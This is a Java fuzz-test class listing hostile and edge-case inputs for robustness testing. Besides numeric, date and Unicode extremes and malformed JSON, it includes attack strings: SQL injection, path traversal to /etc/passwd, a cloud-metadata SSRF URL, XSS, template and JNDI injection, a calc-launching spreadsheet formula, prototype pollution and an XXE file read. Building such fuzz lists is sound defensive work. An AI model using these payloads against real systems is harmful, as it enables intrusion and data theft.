package io.troth.app.fuzz;

import java.util.List;

/** Texts that have broken programs before: each at the edge of some language or limit. */
final class Hostile {

  private static final String LONG = "x".repeat(20_000);

  static final List<String> TEXTS =
      List.of(
          "",
          " ",
          "\u0000",
          "a\u0000b",
          "\r\nSet-Cookie: a=b",
          "\n\n<html>",
          "' or '1'='1",
          "\"; drop table subject; -- ",
          "\\",
          "%",
          "%00",
          "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
          "../../../../etc/passwd",
          "..\\..\\windows\\win.ini",
          "file:///etc/passwd",
          "http://169.254.169.254/latest/meta-data/",
          "http://[::1]:80/",
          "javascript:alert(1)",
          "<script>alert(1)</script>",
          "{{7*7}}",
          "{cdi:vault}",
          "${jndi:ldap://example.invalid/a}",
          "#{7*7}",
          "=cmd|' /C calc'!A0",
          "@SUM(1+1)",
          "\u202Egnp.exe",
          "\uFEFF",
          "\uD83D\uDE00".repeat(300),
          "e\u0301".repeat(200),
          "ﷺ".repeat(100),
          "null",
          "true",
          "NaN",
          "-1",
          "0",
          "1e400",
          "9223372036854775808",
          "-9223372036854775809",
          "2147483648",
          "00000000-0000-0000-0000-000000000000",
          "ffffffff-ffff-ffff-ffff-ffffffffffff",
          "9999999999-12-31",
          "2026-02-30",
          "+999999999-01-01T00:00:00Z",
          "-999999999-01-01T00:00:00Z",
          "P99999999999Y",
          "PT-1S",
          "Europe/Nowhere",
          "xx-YY-zzzzzzzzzzz",
          "a@b",
          "\"@\"@example.test",
          "*".repeat(300),
          "[".repeat(2_000),
          LONG);

  /** Bodies that are no JSON, or more than any reader should take in. */
  static final List<String> BODIES =
      List.of(
          "",
          " ",
          "null",
          "[]",
          "{}",
          "\"text\"",
          "1",
          "{",
          "}",
          "{\"a\":}",
          "{\"a\":1,\"a\":2}",
          "{\"a\":\"\\ud800\"}",
          "{\"a\":1e999999999}",
          "{\"a\":" + "1".repeat(5_000) + "}",
          "{\"a\":" + "[".repeat(5_000) + "]".repeat(5_000) + "}",
          "{\"a\":".repeat(3_000) + "1" + "}".repeat(3_000),
          "{\"\":{\"\":{\"\":\"\"}}}",
          "{\"__proto__\":{\"tenant\":\"other\"},\"tenantId\":\"other\"}",
          "\uFEFF{}",
          "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
          "{\"a\":\"" + LONG + "\"}");

  static final List<String> KINDS =
      List.of(
          "application/json",
          "application/json",
          "application/json; charset=utf-16",
          "text/plain",
          "application/xml",
          "application/x-ndjson",
          "text/csv",
          "multipart/form-data; boundary=x",
          "application/x-www-form-urlencoded",
          "no type at all");

  private Hostile() {}
}
